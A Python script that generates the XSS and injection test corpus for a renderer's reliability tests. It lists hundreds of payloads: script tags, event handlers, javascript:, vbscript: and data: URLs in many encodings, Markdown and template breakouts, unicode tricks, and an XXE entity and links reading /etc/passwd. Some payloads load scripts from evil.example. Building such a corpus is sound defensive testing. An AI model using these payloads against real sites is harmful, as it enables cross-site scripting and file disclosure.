#!/usr/bin/env python3
"""Writes data/injection_vectors.json, the script-injection corpus of t_injection.py.

The JSON file is the corpus; this script documents how it was made and regenerates it
(`python3 Tests/Reliability/make_vectors.py`). Each entry: {"id", "kind", "text"}.
Vectors are placed verbatim into every text field of a notice and into its body."""
import json
import os

HERE = os.path.dirname(os.path.abspath(__file__))

# --- raw HTML, event handlers, dangerous elements --------------------------------------------
RAW_HTML = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script/xss src=//evil.example/x.js></script>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<script type=\"module\">import('//evil.example/x.js')</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror=\"alert(1)\">",
    "<IMG SRC=x ONERROR=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror\n=alert(1)>",
    "<IMG SRC=javascript:alert(1)>",
    "<img src=`javascript:alert(1)`>",
    "<img srcset=\"javascript:alert(1) 1x, x 2x\">",
    "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"0\" y=\"20\">x</text></a></svg>",
    "<svg><animate attributeName=href to=javascript:alert(1) /><a><text>x</text></a></svg>",
    "<svg><set attributeName=onmouseover to=alert(1) /></svg>",
    "<svg><use href=\"data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg'&gt;&lt;image href='1' onerror='alert(1)' /&gt;&lt;/svg&gt;#x\" /></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
    "<iframe src=https://evil.example/></iframe>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<object type=\"text/x-scriptlet\" data=\"https://evil.example/x.sct\"></object>",
    "<embed src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
    "<embed src=javascript:alert(1)>",
    "<applet code=\"Evil.class\" codebase=\"https://evil.example/\"></applet>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<isindex action=javascript:alert(1) type=submit value=click>",
    "<input type=image src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<meta http-equiv=refresh content=\"0; url=https://evil.example/\">",
    "<meta charset=\"x-imap4-modified-utf7\">",
    "<base href=\"javascript:alert(1)//\">",
    "<base href=\"https://evil.example/\">",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<link rel=import href=\"https://evil.example/x.html\">",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<div style=\"background-image:url(javascript:alert(1))\">x</div>",
    "<div style=\"width: expression(alert(1))\">x</div>",
    "<div style=\"-moz-binding:url(https://evil.example/x.xml#xss)\">x</div>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<video poster=javascript:alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<x onclick=alert(1)>klick</x>",
    "<div onmouseover=\"alert(1)\">x</div>",
    "<a href=\"#\" onclick=\"alert(1)\">x</a>",
    "<A HREF=\"https://example.com/\" ONCLICK=\"alert(1)\">x</A>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"&#x6A;avascript&#x3A;alert(1)\">x</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"java&#x09;script:alert(1)\">x</a>",
    "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>",
    "<a href=\"&#14;javascript:alert(1)\">x</a>",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;\">x</a>",
    "<a href=\"file:///etc/passwd\">x</a>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=`javascript:alert(1)`>x</a>",
    "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
    "<blockquote cite=\"javascript:alert(1)\">x</blockquote>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<textarea></textarea><script>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<listing><img src=x onerror=alert(1)></listing>",
    "<noembed><img src=x onerror=alert(1)></noembed>",
    "<div id=\"inhalt\" onclick=\"alert(1)\">x</div>",
    "<kbd onclick=alert(1)>Strg</kbd>",
    "<details><summary onclick=alert(1)>x</summary></details>",
]

# --- breaking out of the place a value is put in --------------------------------------------
BREAKOUTS = [
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "\" autofocus onfocus=\"alert(1)",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "\"/><img src=x onerror=alert(1)>",
    "`\"'><img src=x onerror=alert(1)>",
    "\"><svg onload=alert(1)>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</noscript><script>alert(1)</script>",
    "</a><a href=javascript:alert(1)>x</a>",
    "</p></div></main><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "<!--<script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "]]><script>alert(1)</script><![CDATA[",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<!DOCTYPE x [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>&xxe;",
    "&xxe; &amp; &lt;script&gt; &#0; &#xD800; &#1114112;",
    "</content><content type=\"html\">&lt;script&gt;alert(1)&lt;/script&gt;</content>",
    "</title></entry><entry><title>fake</title><link href=\"javascript:alert(1)\"/>",
    "</loc></url><url><loc>javascript:alert(1)</loc>",
    "\",\"url\":\"javascript:alert(1)\",\"x\":\"",
    "\\\"}]};alert(1);//",
    "'-alert(1)-'",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\r\nSUMMARY:injected\r\nBEGIN:VEVENT\r\nEND:VEVENT",
    "\nURL:javascript:alert(1)\nX-INJECTED:1",
    "a,b;c\\d:e",
    "{{title}} {{{body}}} {{&page.title}}",
    "{{#site}}<script>alert(1)</script>{{/site}}",
    "{{> layout}}{{=<% %>=}}<% title %>",
    "${alert(1)} #{alert(1)} <%= alert(1) %>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;img src=x onerror=alert(1)&#x3E;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
]

# --- unicode tricks ------------------------------------------------------------------------------
UNICODE = [
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<\u017fcript>alert(1)</\u017fcript>",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "\u202e<script>alert(1)</script>\u202c",
    "\u2028<script>alert(1)</script>\u2029",
    "<img src=x on\u00aderror=alert(1)>",
    "<img src=x \u0000onerror=alert(1)>".replace("\u0000", "\ufffd"),
    "<a href=\"java\u200dscript:alert(1)\">x</a>",
    "<a href=\"\u00a0javascript:alert(1)\">x</a>",
    "<a href=\"j\u0430vascript:alert(1)\">x</a>",
    "<a href=\"javascript\uff1aalert(1)\">x</a>",
    "\ufeff<script>alert(1)</script>",
    "\U0001f600<script>alert(1)</script>\U0001f600",
    "\u0130<scr\u0130pt>alert(1)</scr\u0130pt>",
    "St\u00f6rung \u201e<script>alert(1)</script>\u201c \u00e4\u00f6\u00fc\u00df",
]

# --- Markdown constructs with hostile targets and texts ---------------------------------------
MARKDOWN = [
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](javascript\\:alert(1))",
    "[x](javascript:alert(1) \"titel\")",
    "[x](https://example.com \"t\\\" onmouseover=\\\"alert(1)\")",
    "[x](https://example.com 'a\" onmouseover=\"alert(1)')",
    "[x](https://example.com (\"><img src=x onerror=alert(1)>))",
    "[x](https://example.com/\"onmouseover=\"alert(1))",
    "[x](#\"onmouseover=\"alert(1))",
    "[<img src=x onerror=alert(1)>](https://example.com)",
    "[x](https://example.com/?q=<script>alert(1)</script>)",
    "![x](javascript:alert(1))",
    "![x\" onerror=\"alert(1)](x.png)",
    "![x](x.png \"\\\" onerror=\\\"alert(1)\")",
    "![x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    "[x][r]\n\n[r]: javascript:alert(1) \"t\"",
    "[r]\n\n[r]: <javascript:alert(1)>",
    "[x][r]\n\n[r]: javascript&colon;alert(1)",
    "[x][r]\n\n[r]: https://example.com '\" onmouseover=\"alert(1)'",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<vbscript:msgbox(1)>",
    "<data:text/html,alert(1)>",
    "<file:///etc/passwd>",
    "<mailto:x@example.com?body=\"><script>alert(1)</script>>",
    "www.example.com/\"onmouseover=\"alert(1)",
    "https://example.com/<script>alert(1)</script>",
    "javascript:alert(1)",
    "x@example.com\"onmouseover=\"alert(1)",
    "`<script>alert(1)</script>`",
    "```\"><script>alert(1)</script>\ncode\n```",
    "```javascript:alert(1)\ncode\n```",
    "~~~ \" onclick=\"alert(1)\nx\n~~~",
    "Text[^1]\n\n[^1]: <script>alert(1)</script>",
    "Text[^\"><img src=x onerror=alert(1)>]\n\n[^\"><img src=x onerror=alert(1)>]: Fu\u00dfnote",
    "Text[^a\" onclick=\"alert(1)]\n\n[^a\" onclick=\"alert(1)]: Fu\u00dfnote",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
    "| a |\n|---|\n| \" onmouseover=\"alert(1) |",
    "- [ ] <img src=x onerror=alert(1)>\n- [x] [x](javascript:alert(1))",
    "> <script>alert(1)</script>\n> [x](javascript:alert(1))",
    "## <script>alert(1)</script>",
    "## \" onmouseover=\"alert(1)",
    "## javascript:alert(1)",
    "Titel\n=====\n<script>alert(1)</script>",
    "    <script>alert(1)</script>",
    "*<script>*alert(1)*</script>*",
    "**[x](javascript:alert(1))**",
    "<details>\n<summary>x</summary>\n\n<script>alert(1)</script>\n\n</details>",
    "<div>\n\n[x](javascript:alert(1))\n\n</div>",
]

# --- dangerous URL schemes in every spelling, in every link position ---------------------------
SCHEMES = {
    "javascript": "alert(1)",
    "vbscript": "msgbox(1)",
    "data": "text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
}


def spellings(scheme, rest):
    """(name, url) pairs: the scheme in mixed case, with whitespace and controls, entity- and
    percent-encoded, with escaped colons."""
    first, tail = scheme[0], scheme[1:]
    return [
        ("plain", "%s:%s" % (scheme, rest)),
        ("upper", "%s:%s" % (scheme.upper(), rest)),
        ("mixed", "%s:%s" % ("".join(c.upper() if i % 2 else c for i, c in enumerate(scheme)), rest)),
        ("leading-space", "  %s:%s" % (scheme, rest)),
        ("leading-tab", "\t%s:%s" % (scheme, rest)),
        ("tab-inside", "%s\t%s:%s" % (scheme[:4], scheme[4:], rest)),
        ("newline-inside", "%s\n%s:%s" % (scheme[:4], scheme[4:], rest)),
        ("cr-inside", "%s\r%s:%s" % (scheme[:4], scheme[4:], rest)),
        ("entity-tab-inside", "%s&#x09;%s:%s" % (scheme[:4], scheme[4:], rest)),
        ("entity-newline-inside", "%s&#10;%s:%s" % (scheme[:4], scheme[4:], rest)),
        ("decimal-entity", "&#%d;%s:%s" % (ord(first), tail, rest)),
        ("hex-entity", "&#x%X;%s:%s" % (ord(first), tail, rest)),
        ("padded-decimal-entity", "&#0000%d;%s:%s" % (ord(first), tail, rest)),
        ("all-entities", "".join("&#%d;" % ord(c) for c in scheme + ":") + rest),
        ("named-colon", "%s&colon;%s" % (scheme, rest)),
        ("decimal-colon", "%s&#58;%s" % (scheme, rest)),
        ("hex-colon", "%s&#x3a;%s" % (scheme, rest)),
        ("percent-first", "%%%02X%s:%s" % (ord(first), tail, rest)),
        ("percent-colon", "%s%%3A%s" % (scheme, rest)),
        ("leading-control", "\x01%s:%s" % (scheme, rest)),
        ("leading-entity-control", "&#1;%s:%s" % (scheme, rest)),
        ("backslash-colon", "%s\\:%s" % (scheme, rest)),
    ]


def link_forms(url):
    """The URL as a Markdown link, image, reference definition and autolink, and in raw HTML."""
    inline = url.replace("\n", "&#10;").replace("\r", "&#13;")
    return [
        ("md-link", "[Link](%s)" % url),
        ("md-link-angle", "[Link](<%s>)" % inline),
        ("md-image", "![Bild](%s)" % url),
        ("md-reference", "[Link][ref]\n\n[ref]: %s" % url),
        ("md-autolink", "<%s>" % inline),
        ("html-a", "<a href=\"%s\">Link</a>" % url),
        ("html-img", "<img src=\"%s\">" % url),
    ]


def build():
    vectors = []

    def add(kind, text):
        vectors.append({"id": "v%03d" % (len(vectors) + 1), "kind": kind, "text": text})

    for text in RAW_HTML:
        add("raw-html", text)
    for text in BREAKOUTS:
        add("breakout", text)
    for text in UNICODE:
        add("unicode", text)
    for text in MARKDOWN:
        add("markdown", text)
    for scheme, rest in SCHEMES.items():
        for name, url in spellings(scheme, rest):
            forms = link_forms(url)
            # every spelling as a Markdown link; the other positions rotate through the spellings
            add("url/%s/%s/md-link" % (scheme, name), forms[0][1])
            index = 1 + (len(vectors) % (len(forms) - 1))
            add("url/%s/%s/%s" % (scheme, name, forms[index][0]), forms[index][1])
    for scheme in ("file", "FILE", " file"):
        add("url/file", "[x](%s:///etc/passwd)" % scheme)
    return vectors


def main():
    vectors = build()
    path = os.path.join(HERE, "data", "injection_vectors.json")
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w", encoding="utf-8") as handle:
        json.dump(vectors, handle, ensure_ascii=True, indent=1)
        handle.write("\n")
    print("%d vectors -> %s" % (len(vectors), path))


if __name__ == "__main__":
    main()
